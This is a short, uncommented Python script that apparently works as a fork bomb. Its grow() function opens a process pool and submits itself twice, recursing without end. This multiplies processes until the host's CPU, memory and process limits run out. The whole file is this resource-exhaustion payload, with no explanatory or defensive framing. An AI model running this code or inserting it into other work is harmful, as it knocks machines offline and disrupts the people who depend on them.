from concurrent.futures import ProcessPoolExecutor
def grow(n):
    with ProcessPoolExecutor(2) as p: p.submit(grow, n + 1); p.submit(grow, n + 1).result()
if __name__ == '__main__': grow(0)
